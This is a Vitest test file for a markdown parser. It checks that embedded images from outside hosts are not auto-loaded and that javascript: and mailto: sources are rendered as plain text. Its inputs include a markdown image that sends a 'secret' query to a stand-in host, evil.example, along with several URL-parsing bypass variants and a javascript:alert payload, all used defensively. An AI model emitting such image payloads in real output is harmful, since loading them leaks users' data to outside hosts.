import { expect, test } from "vitest";
import { markdown } from "../../../../src/ui/lib/markdown/parser.ts";

const html = (text: string) => markdown.parse(text) as string;

test.each([
  ["![Harbour](/api/v1/files/1/content)", '<img src="/api/v1/files/1/content" alt="Harbour">'],
  ["![dot](data:image/png;base64,iVBORw0KGgo=)", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'],
])("%s is shown", (text, expected) => {
  expect(html(text)).toContain(expected);
});

test.each([
  "![secret](https://evil.example/?q=secret)",
  "![x](http://evil.example/x.png)",
  "![x](//evil.example/x.png)",
  "![x](</\\evil.example/x.png>)",
  "![x](</\t/evil.example/x.png>)",
  "![x][1]\n\n[1]: https://evil.example/x.png",
  '<img src="https://evil.example/x.png">',
])("%s loads nothing by itself", (text) => {
  expect(html(text)).not.toMatch(/<img[^>]* src=/);
});

test.each([
  ["![Quay](https://pictures.example/quay.png)", "https://pictures.example/quay.png"],
  ["![Quay](//pictures.example/quay.png)", "https://pictures.example/quay.png"],
  ["![Quay](<http://pictures.example/a b.png?x=1&y=2>)", "http://pictures.example/a%20b.png?x=1&amp;y=2"],
])("%s has its address where nothing loads it", (text, address) => {
  expect(html(text)).toContain(`<img data-picture="${address}" alt="Quay">`);
});

test.each([
  "![Quay](javascript:alert(1))",
  "![Quay](mailto:ada@harbour.example)",
  "![Quay](quay.png)",
  "![](quay.png)",
])("%s is text", (text) => {
  expect(html(text)).toMatch(/^<p>(?:Quay|quay\.png)<\/p>/);
});
